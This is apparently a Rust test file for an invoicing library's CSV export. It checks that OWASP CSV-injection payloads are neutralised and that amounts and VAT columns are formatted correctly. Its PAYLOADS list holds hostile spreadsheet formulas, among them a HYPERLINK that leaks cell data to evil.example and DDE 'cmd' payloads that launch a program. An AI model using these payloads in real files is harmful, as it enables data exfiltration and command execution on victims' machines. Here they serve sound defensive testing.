//! The accountant's CSV, by the rules a spreadsheet needs: OWASP's CSV-injection guidance
//! (a text cell that starts with `=`, `+`, `-`, `@`, tab or carriage return is prefixed with
//! `'` and quoted), amounts with their currency's decimals and no negative zero in both
//! dialects, VAT split by rate; and a parse of the output by Python's `csv` module when
//! Python is there.

#![allow(clippy::unwrap_used)]

mod builders;

use builders::{client, day, dec, issued, line, t0};
use cobro_core::csv_export::{self, field, Dialect};
use cobro_core::ledger::Ledger;
use cobro_core::report::Period;
use cobro_core::{CreditNote, Dataset, Lang, Payment, VatRate};

fn period() -> Period {
    Period {
        from: day(2026, 1, 1),
        to: day(2026, 12, 31),
    }
}

/// The payloads of OWASP's CSV Injection page, each as a client name and a payment note.
const PAYLOADS: &[&str] = &[
    "=1+2",
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
    "+1+2",
    "-1+2",
    "@SUM(1+2)",
    "\t=1+2",
    "\r=1+2",
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
];

#[test]
fn text_that_a_spreadsheet_would_run_is_neutralised() {
    for p in PAYLOADS {
        for dialect in [Dialect::Comma, Dialect::Semicolon] {
            let f = field(p, dialect);
            assert!(f.starts_with("\"'"), "{p:?} → {f:?}");
            assert!(f.ends_with('"'));
            // Inside the quotes: the text itself after the apostrophe, quotes doubled.
            let inner = &f[2..f.len() - 1];
            assert_eq!(inner.replace("\"\"", "\""), *p);
        }
    }
    // Text that does not start with one of them is left alone (a dash inside is fine).
    assert_eq!(
        field("Talleres Peña-López", Dialect::Comma),
        "Talleres Peña-López"
    );
    assert_eq!(field("a=b", Dialect::Comma), "a=b");
    assert_eq!(field("", Dialect::Comma), "");
}

/// One issued invoice (100 at 21 % + 50 at 10 % + 20 exempt), a credit note of all its
/// lines, a payment; the client's name and the payment's note are hostile.
fn data(name: &str, note: &str) -> Dataset {
    let mut inv = issued();
    inv.lines = vec![
        line("Diseño", "1", "100"),
        cobro_core::Line {
            vat: VatRate::Rate(dec("10")),
            ..line("Libro", "1", "50")
        },
        cobro_core::Line {
            vat: VatRate::Exempt("Art. 20 LIVA".into()),
            ..line("Formación", "1", "20")
        },
    ];
    let cn = CreditNote {
        id: "cn1".into(),
        series_id: "s-r".into(),
        number: Some("R2026-0001".into()),
        invoice_id: inv.id.clone(),
        client_id: inv.client_id.clone(),
        issue_date: day(2026, 3, 5),
        reason: "Error".into(),
        currency: "EUR".into(),
        lines: inv.lines.clone(),
        withholding_pct: dec("0"),
        invoice_discount_pct: dec("0"),
        full_cancellation: true,
        updated_at: t0(),
    };
    Dataset {
        clients: vec![cobro_core::Client {
            legal_name: name.into(),
            ..client()
        }],
        invoices: vec![inv],
        credit_notes: vec![cn],
        payments: vec![Payment {
            note: note.into(),
            ..builders::payment("10")
        }],
        ..Dataset::default()
    }
}

#[test]
fn amounts_have_two_decimals_no_negative_zero_and_vat_by_rate() {
    let d = data("Cliente SL", "");
    let ledger = Ledger::new(&d);
    let comma = csv_export::documents_csv(&ledger, period(), Dialect::Comma, Lang::En);
    let rows: Vec<&str> = comma.split("\r\n").collect();
    assert_eq!(
        rows[0],
        "Type,Number,Date,Due date,Client,Client tax id,PO,Currency,Taxable base,VAT,Withholding,Total,Paid,Owed,Corrects,Early-payment discount,Base 21%,VAT 21%,Base 10%,VAT 10%,Exempt base"
    );
    assert_eq!(
        rows[1],
        "Invoice,F2026-0001,2026-03-02,2026-04-01,Cliente SL,B12345674,,EUR,170.00,26.00,0.00,196.00,10.00,0.00,,,100.00,21.00,50.00,5.00,20.00"
    );
    assert_eq!(
        rows[2],
        "Credit note,R2026-0001,2026-03-05,,Cliente SL,B12345674,,EUR,-170.00,-26.00,0.00,-196.00,,,F2026-0001,,-100.00,-21.00,-50.00,-5.00,-20.00"
    );
    let semi = csv_export::documents_csv(&ledger, period(), Dialect::Semicolon, Lang::Es);
    let rows: Vec<&str> = semi.trim_start_matches('\u{FEFF}').split("\r\n").collect();
    assert!(
        rows[0].ends_with(";Base 21 %;IVA 21 %;Base 10 %;IVA 10 %;Base exenta"),
        "{}",
        rows[0]
    );
    assert_eq!(
        rows[2],
        "Rectificativa;R2026-0001;05/03/2026;;Cliente SL;B12345674;;EUR;-170,00;-26,00;0,00;-196,00;;;F2026-0001;;-100,00;-21,00;-50,00;-5,00;-20,00"
    );
    for text in [&comma, &semi] {
        assert!(!text.contains("-0.00") && !text.contains("-0,00"), "{text}");
    }
}

#[test]
fn hostile_names_and_notes_reach_the_file_as_text() {
    for p in PAYLOADS {
        let d = data(p, p);
        let ledger = Ledger::new(&d);
        for dialect in [Dialect::Comma, Dialect::Semicolon] {
            let docs = csv_export::documents_csv(&ledger, period(), dialect, Lang::Es);
            let pays = csv_export::payments_csv(&ledger, period(), dialect, Lang::Es);
            let quoted = field(p, dialect);
            assert!(docs.contains(&quoted), "{p:?} in {docs:?}");
            assert_eq!(pays.matches(&quoted).count(), 2, "name and note: {pays:?}");
        }
    }
}

/// Python's `csv` reads every variant back to the cells Cobro meant (skipped when there is
/// no `python3`, as on a bare machine; CI has it).
#[test]
fn python_csv_reads_back_what_was_written() {
    use std::io::Write;
    use std::process::{Command, Stdio};
    let script = r#"
import csv, io, json, sys
data = json.load(sys.stdin)
out = []
for text, delim in data:
    text = text.lstrip('\ufeff')
    out.append(list(csv.reader(io.StringIO(text, newline=''), delimiter=delim)))
json.dump(out, sys.stdout)
"#;
    let hostile = "=HYPERLINK(\"x\";\"y\"), \"S.L.\"";
    let d = data(hostile, "-2+3; nota\r\nsegunda línea");
    let ledger = Ledger::new(&d);
    let inputs = vec![
        (
            csv_export::documents_csv(&ledger, period(), Dialect::Comma, Lang::En),
            ",",
        ),
        (
            csv_export::documents_csv(&ledger, period(), Dialect::Semicolon, Lang::Es),
            ";",
        ),
        (
            csv_export::payments_csv(&ledger, period(), Dialect::Comma, Lang::En),
            ",",
        ),
        (
            csv_export::payments_csv(&ledger, period(), Dialect::Semicolon, Lang::Es),
            ";",
        ),
    ];
    let Ok(mut child) = Command::new("python3")
        .args(["-c", script])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
    else {
        eprintln!("python3 not found: skipped");
        return;
    };
    let json = serde_json::to_string(&inputs).unwrap();
    child.stdin.take().unwrap().write_all(json.as_bytes()).unwrap();
    let output = child.wait_with_output().unwrap();
    assert!(output.status.success());
    let tables: Vec<Vec<Vec<String>>> = serde_json::from_slice(&output.stdout).unwrap();
    let docs = &tables[0];
    assert_eq!(docs.len(), 3, "header + invoice + credit note: {docs:?}");
    assert!(docs.iter().all(|r| r.len() == docs[0].len()), "same width");
    assert_eq!(
        docs[1][4],
        format!("'{hostile}"),
        "the name, neutralised, in one cell"
    );
    assert_eq!(docs[1][8], "170.00");
    let semi = &tables[1];
    assert_eq!(semi[2][11], "-196,00");
    let pays = &tables[3];
    assert_eq!(pays[1][7], "'-2+3; nota\r\nsegunda línea");
    assert_eq!(pays[1][4], "10,00");
    assert_eq!(tables[2][1][4], "10.00");
}
